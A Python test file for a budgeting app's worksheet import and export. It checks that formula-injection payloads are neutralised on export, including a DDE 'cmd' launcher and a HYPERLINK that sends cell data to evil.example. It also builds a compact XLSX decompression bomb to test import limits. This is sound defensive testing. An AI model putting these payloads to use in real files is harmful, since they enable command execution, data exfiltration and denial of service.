"""Worksheets from careless or hostile colleagues: no live formulas out, bounded work in."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from app import model, worksheets
from app.storage import rows, safe
from app.worksheets.cells import FORMULA_STARTS
from tests.helpers import run_cli

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
           "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\uff1d1+1"]


def _csv(path: Path, lines: list[list[Any]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(lines)
    return path


@pytest.fixture
def hostile_book(wb: Any, tmp_path: Path) -> Path:
    """Return a workbook whose programmes and KPIs were named to run formulas."""
    path = wb.path
    wb.close()
    lines: list[list[Any]] = [["nama", "dimensi", "mulai", "selesai", "sumber", "anggaran_2020",
                               "indikator", "target_2020"]]
    lines += [[name, "SG", 2020, 2021, "APBD", 1_500_000 + i, f"={i}+1", 10 + i]
              for i, name in enumerate(HOSTILE)]
    worksheets.import_file(path, "programmes", _csv(tmp_path / "in.csv", lines))
    return path


def _names(path: Path) -> set[str]:
    db = safe.load_copy(path)
    try:
        return {p.name for p in rows.select(db, model.Programme)}
    finally:
        db.conn.close()


def test_the_hostile_names_went_in_as_written(hostile_book: Path) -> None:
    assert _names(hostile_book) == {name.strip() for name in HOSTILE}


def test_no_csv_text_cell_starts_a_formula_and_numbers_stay_numbers(
        hostile_book: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    worksheets.export_programmes(hostile_book, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    header, body = lines[0], lines[1:]
    cells = [cell for line in body for cell in line]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    names = [line[header.index("nama")] for line in body]
    assert "'=cmd|' /C calc'!A0" in names and "'@SUM(1+1)" in names
    assert {line[header.index("anggaran_2020")] for line in body} == {
        str(1_500_000 + i) for i in range(len(HOSTILE))}


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(
        hostile_book: Path, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    worksheets.export_programmes(hostile_book, out)
    sheet = openpyxl.load_workbook(out).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    budgets = [line[header.index("anggaran_2020")].value for line in sheet.iter_rows(min_row=2)]
    assert budgets == sorted(1_500_000 + i for i in range(len(HOSTILE)))
    assert all(isinstance(amount, int) for amount in budgets)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_exported_sheet_imports_back_to_the_same_names(
        hostile_book: Path, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"out{suffix}"
    worksheets.export_programmes(hostile_book, out)
    before = _names(hostile_book)
    worksheets.import_file(hostile_book, "programmes", out)
    assert _names(hostile_book) == before


# -- bounded imports ----------------------------------------------------------------------

_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
        '"xl/workbook.xml"/></Relationships>'),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
        'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"><sheets><sheet name="Program" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
        '"worksheets/sheet1.xml"/></Relationships>'),
}
_SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
               'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')


def _xlsx(path: Path, rows: int, columns: int, body: str | None = None) -> Path:
    """Write a minimal XLSX by hand: ``rows`` x ``columns`` numeric cells (or ``body``)."""
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in _PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(_SHEET_HEAD.encode())
            if body is not None:
                sheet.write(body.encode())
            else:
                cells = "".join(f'<c t="n"><v>{c}</v></c>' for c in range(columns)).encode()
                for _row in range(rows):
                    sheet.write(b"<row>" + cells + b"</row>")
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_a_small_xlsx_that_unpacks_to_millions_of_cells_is_refused_before_reading(
        tmp_path: Path) -> None:
    bomb = _xlsx(tmp_path / "bom.xlsx", rows=300_000, columns=20)  # six million cells
    assert bomb.stat().st_size < 3 * 2**20  # small on the disk
    done = run_cli("import", str(tmp_path / "none.rencana"), "--programmes", str(bomb),
                   env={"RENCANA_LANG": "en"})
    assert done.returncode == 1
    assert done.stderr.strip().startswith("bom.xlsx is too large for a worksheet (")
    assert done.stderr.strip().endswith("MB unpacked).")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rows_past_the_limit_are_refused_while_streaming(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str) -> None:
    from app.worksheets import table

    monkeypatch.setattr(table, "MAX_ROWS", 50)
    if suffix == ".csv":
        source = _csv(tmp_path / "p.csv", [["nama", "dimensi"]] + [["A", "SG"]] * 60)
    else:
        source = _xlsx(tmp_path / "p.xlsx", rows=60, columns=2)
    with pytest.raises(table.WorksheetError) as caught:
        table.read_table(source)
    assert caught.value.message("en") == f"p{suffix} has more than 50 rows."


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_too_many_columns_or_cells_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                               suffix: str) -> None:
    from app.worksheets import table

    wide = [[f"c{n}" for n in range(table.MAX_COLUMNS + 1)]]
    source = (_csv(tmp_path / "p.csv", wide) if suffix == ".csv"
              else _xlsx(tmp_path / "p.xlsx", rows=1, columns=table.MAX_COLUMNS + 1))
    with pytest.raises(table.WorksheetError) as caught:
        table.read_table(source)
    assert caught.value.message("en") == f"p{suffix} has more than 500 columns."
    monkeypatch.setattr(table, "MAX_CELLS", 100)
    many = _csv(tmp_path / "m.csv", [["a", "b", "c"]] * 40)
    with pytest.raises(table.WorksheetError, match="more than 100 cells"):
        table.read_table(many)


def test_a_declared_size_that_lies_does_not_pad_every_row(tmp_path: Path) -> None:
    """A sheet claiming A1:XFD1048576 with two real rows reads as two short rows."""
    from app.worksheets import table

    body = ('<row r="1"><c r="A1" t="inlineStr"><is><t>nama</t></is></c></row>'
            '<row r="2"><c r="A2" t="inlineStr"><is><t>Portal</t></is></c></row>')
    source = _xlsx(tmp_path / "p.xlsx", 0, 0, body=body)
    found = table.read_table(source)
    assert (found.headers, found.rows) == (["nama"], [(2, ["Portal"])])


@pytest.mark.parametrize("body", ["<row><c><v>1</v></row>", "<row><c t='n'><v>x</v></c></row>",
                                  "\x00garbage"])
def test_a_malformed_xlsx_is_one_sentence(tmp_path: Path, body: str) -> None:
    source = _xlsx(tmp_path / "rusak.xlsx", 0, 0, body=body)
    done = run_cli("import", str(tmp_path / "none.rencana"), "--programmes", str(source),
                   env={"RENCANA_LANG": "id"})
    assert done.returncode == 1
    assert done.stderr.strip() == "rusak.xlsx bukan berkas Excel yang dapat dibaca."
